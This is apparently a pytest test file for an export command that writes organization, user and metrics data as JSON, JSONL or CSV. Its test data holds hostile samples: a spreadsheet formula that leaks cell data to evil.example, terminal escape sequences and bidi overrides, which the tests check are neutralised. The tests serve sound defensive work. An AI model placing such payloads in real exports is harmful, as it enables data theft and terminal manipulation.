"""`eiscope export`: formats, API field names, and the exit code and stderr line of every failure."""

from __future__ import annotations

import csv
import io
import json
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.hostile import Handler, HostileServer
from tui.config import ResolvedSettings
from tui.export import ExportRequest, cache_clear, cache_info, run_export, write_rows
from tui.sandbox.faults import FaultConfig
from tui.sandbox.server import Sandbox


@pytest.fixture
def settings(sandbox: Sandbox, tmp_path: Path) -> ResolvedSettings:
    return ResolvedSettings(
        endpoint=sandbox.url,
        api_key=sandbox.admin_key,
        org_id=sandbox.owner_org_id,
        cache_dir=tmp_path / "cache",
    )


def export(settings: ResolvedSettings, kind: str, fmt: str = "json", **kw: Any) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run_export(ExportRequest(kind=kind, format=fmt, **kw), settings, out, err)
    return code, out.getvalue(), err.getvalue()


def first_inner_id(sandbox: Sandbox) -> int:
    return int(sandbox.world.inner_organizations[0]["id"])


def test_orgs_as_json_keep_api_names(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    code, out, err = export(settings, "orgs")
    assert (code, err) == (0, "")
    rows = json.loads(out)
    assert [r["id"] for r in rows] == [sandbox.owner_org_id]
    assert "isDeveloperProfile" in rows[0]


def test_users_as_jsonl(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "users", "jsonl")
    assert code == 0
    lines = out.splitlines()
    assert lines and all(json.loads(line)["email"] for line in lines)
    info = sandbox.world.organization_info(sandbox.owner_org_id)
    assert info is not None and len(lines) == len(info["organization"]["users"])


def test_projects_as_csv_flatten_nested_objects(settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "projects", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and "id" in rows[0] and "name" in rows[0]
    assert isinstance(json.loads(rows[0]["collaborators"]), list)  # lists stay JSON


def test_datasets_as_csv(settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "datasets", "csv")
    assert code == 0
    header = next(csv.reader(io.StringIO(out)))
    assert "totalItemCountChecklistOK" in header


def test_inner_orgs_walks_every_page(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "inner-orgs")
    rows = json.loads(out)
    ids = [r["id"] for r in rows]
    world = sandbox.world
    live = [r for r in world.inner_organizations if not world.inner_organization_meta(r["id"]).get("deleted")]
    assert code == 0 and len(ids) == len(set(ids)) == len(live) > 1


def test_inner_org_is_the_body_without_the_envelope(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "inner-org", target_id=first_inner_id(sandbox))
    body = json.loads(out)
    assert code == 0 and "success" not in body and "error" not in body and "dailyMetrics" in body


def test_metrics_as_csv_one_row_a_day(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    inner_id = first_inner_id(sandbox)
    code, out, _ = export(settings, "metrics", "csv", target_id=inner_id)
    rows = list(csv.DictReader(io.StringIO(out)))
    info = sandbox.world.inner_organization_info(inner_id)
    expected = (info or {}).get("dailyMetrics") or []
    assert code == 0 and len(rows) == len(expected) and "computeTimeSeconds" in rows[0]


def test_csv_strips_terminal_control_from_strings() -> None:
    out = io.StringIO()
    write_rows([{"name": "evil\x1b]52;c;aGk=\x07name\x9b2J", "nested": {"note": "a\x1b[2Jb"}}], "csv", out)
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "nested.note" in text and "evilname" in text


# ---------------------------------------------------------------- failures: exit code and one line


def assert_one_line(err: str, *secrets: str) -> None:
    assert err.startswith("eiscope: ") and err.count("\n") == 1 and "Traceback" not in err
    for secret in secrets:
        assert secret not in err


def test_wrong_key_exits_3(settings: ResolvedSettings) -> None:
    settings.api_key = "ei_not_a_real_key_0123456789abcdef"
    code, out, err = export(settings, "orgs")
    assert (code, out) == (3, "")
    assert err.startswith("eiscope: 401")
    assert_one_line(err, settings.api_key)


def test_plain_org_whitelabel_exits_3(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    settings.api_key, settings.org_id = sandbox.plain_key, sandbox.plain_org_id
    code, _, err = export(settings, "inner-orgs")
    assert code == 3 and "white-label admin" in err
    assert_one_line(err, sandbox.plain_key)


def test_unknown_inner_org_exits_4(settings: ResolvedSettings) -> None:
    code, _, err = export(settings, "inner-org", target_id=987654321)
    assert code == 4
    assert_one_line(err, settings.api_key or "")


def test_unreachable_endpoint_exits_5(settings: ResolvedSettings) -> None:
    settings.endpoint = "http://127.0.0.1:9/v1"
    code, _, err = export(settings, "orgs")
    assert code == 5
    assert_one_line(err, settings.api_key or "")


def test_server_error_exits_5(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    sandbox.fail_next("/api/organizations", [500])
    code, _, err = export(settings, "orgs")
    assert code == 5 and err.startswith("eiscope: 500")


def test_success_false_exits_1(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    sandbox.faults = FaultConfig(false_success_rate=1.0)
    code, _, err = export(settings, "orgs")
    assert code == 1 and "(injected)" in err
    assert_one_line(err)


@pytest.mark.parametrize(
    "kind, fmt, target, expected",
    [("inner-org", "json", None, "needs an inner organization ID"), ("orgs", "xml", None, "unknown format")],
)
def test_usage_errors_exit_2(
    settings: ResolvedSettings, kind: str, fmt: str, target: int | None, expected: str
) -> None:
    code, _, err = export(settings, kind, fmt, target_id=target)
    assert code == 2 and expected in err
    assert_one_line(err)


def test_offline_export_reads_the_cache_only(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    assert export(settings, "projects")[0] == 0
    sandbox.reset_counts()
    settings.offline = True
    code, out, _ = export(settings, "projects")
    assert code == 0 and json.loads(out)
    assert sandbox.total_requests() == 0
    code, _, err = export(settings, "datasets")  # never fetched
    assert code == 5 and "offline" in err


def test_export_does_not_silently_serve_stale_data(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    assert export(settings, "orgs")[0] == 0
    sandbox.fail_next("/api/organizations", [503] * 4, retry_after=0.05)
    code, out, err = export(settings, "orgs")
    assert code == 5 and out == "" and err.startswith("eiscope: 503")


def test_cache_info_and_clear(settings: ResolvedSettings) -> None:
    assert export(settings, "orgs")[0] == 0
    out = io.StringIO()
    assert cache_info(settings, out, io.StringIO()) == 0
    assert "entries:    1" in out.getvalue() and str(settings.cache_dir) in out.getvalue()
    assert "of 200.0 MB" in out.getvalue()  # SI sizes, as the browser shows them (kB = 1000 B)
    out = io.StringIO()
    assert cache_clear(settings, out, io.StringIO()) == 0
    assert out.getvalue().startswith("removed 1 cached")


# ---------------------------------------------------------------- what export does to its reader's tools


def csv_rows(rows: list[dict[str, Any]]) -> list[list[str]]:
    out = io.StringIO()
    write_rows(rows, "csv", out)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+SUM(1,1)",
        "-1+2",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\x1b]2;T\x07=1+1",  # stripping the escape sequence exposes the formula: neutralised after stripping
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_csv_cells_and_headers_a_spreadsheet_would_run_are_neutralised(name: str) -> None:
    header, row = csv_rows([{"name": name, name: 1}])
    for cell in (row[0], header[1]):
        assert cell.startswith("'"), cell
        assert "\x1b" not in cell and "\t" not in cell and "\r" not in cell


def test_csv_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    _, row = csv_rows([{"balance": -5, "ratio": -0.25, "name": "Acme - Edge", "note": "a=b", "ok": True}])
    assert row == ["-5", "-0.25", "Acme - Edge", "a=b", "true"]


def test_csv_list_cells_lose_bidi_and_c1_controls() -> None:
    _, row = csv_rows([{"tags": ["safe\u202eexe.txt", "next\u0085line", "\x1b[2Jclear"], "name": "x\u202ey"}])
    joined = "".join(row)
    for char in ("\u202e", "\u0085", "\x1b"):
        assert char not in joined
    assert json.loads(row[0]) == ["safeexe.txt", "nextline", "clear"] and row[1] == "xy"


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_escapes_controls_but_keeps_the_data(fmt: str) -> None:
    rows = [{"name": "safe\u202eexe.txt", "note": "next\u0085line\x1b[2J", "city": "Zürich", "\u2066key": "v"}]
    out = io.StringIO()
    write_rows(rows, fmt, out)
    text = out.getvalue()
    for char in ("\u202e", "\u0085", "\x1b", "\u2066"):
        assert char not in text
    assert "\\u202e" in text and "\\u0085" in text and "Zürich" in text
    parsed = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
    assert parsed == rows[0]


def test_inner_org_json_is_escaped_too(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    code, out, _ = export(settings, "inner-org", target_id=first_inner_id(sandbox))
    assert code == 0 and all(ch not in out for ch in ("\u202e", "\x1b", "\u0085"))


def test_command_line_errors_carry_command_line_hints(sandbox: Sandbox, settings: ResolvedSettings) -> None:
    sandbox.faults = FaultConfig(false_success_rate=1.0)
    code, _, err = export(settings, "orgs")
    assert code == 1 and "Press r" not in err and "eiscope export" not in err


class _FullDisk(io.StringIO):
    def write(self, text: str) -> int:
        raise OSError(28, "No space left on device")


def test_a_failed_write_is_one_line_and_exit_1(settings: ResolvedSettings) -> None:
    err = io.StringIO()
    code = run_export(ExportRequest(kind="orgs"), settings, _FullDisk(), err)
    assert code == 1 and err.getvalue() == "eiscope: could not write the export: No space left on device\n"


# ---------------------------------------------------------------- numbers JSON cannot hold


def organizations_with_numbers_json_cannot_hold(sandbox: Sandbox) -> Handler:
    """GET /api/organizations as the sandbox answers it, with `1e400` (infinity once parsed), `-1e400` and `NaN`
    in the row (extra fields: the models keep them) and in a nested object."""
    row = json.dumps(sandbox.world.organizations_for_key(sandbox.admin_key)[0])
    row = row[:-1] + ', "score": 1e400, "floor": -1e400, "ratio": NaN, "stats": {"mean": NaN, "n": 3}}'
    body = ('{"success": true, "organizations": [' + row + "]}").encode()

    def handle(request: BaseHTTPRequestHandler, path: str, query: dict[str, str]) -> None:
        request.send_response(200)
        request.send_header("Content-Type", "application/json")
        request.send_header("Content-Length", str(len(body)))
        request.end_headers()
        request.wfile.write(body)

    return handle


def strict_json(text: str) -> Any:
    """json.loads that refuses `Infinity`, `-Infinity` and `NaN`, as strict JSON parsers (jq, JSON.parse) do."""

    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_numbers_json_cannot_hold_are_exported_as_null_or_empty(
    sandbox: Sandbox, settings: ResolvedSettings, fmt: str
) -> None:
    with HostileServer({"/api/organizations": organizations_with_numbers_json_cannot_hold(sandbox)}) as server:
        settings.endpoint = server.url
        code, out, err = export(settings, "orgs", fmt)
    assert (code, err) == (0, "")
    assert "Infinity" not in out and "NaN" not in out
    if fmt == "csv":
        (row,) = csv.DictReader(io.StringIO(out))
        assert (row["score"], row["floor"], row["ratio"], row["stats.mean"], row["stats.n"]) == ("", "", "", "", "3")
        return
    (row,) = strict_json(out) if fmt == "json" else [strict_json(line) for line in out.splitlines()]
    assert (row["score"], row["floor"], row["ratio"], row["stats"]) == (None, None, None, {"mean": None, "n": 3})
    assert row["id"] == sandbox.owner_org_id  # the rest of the row as it came
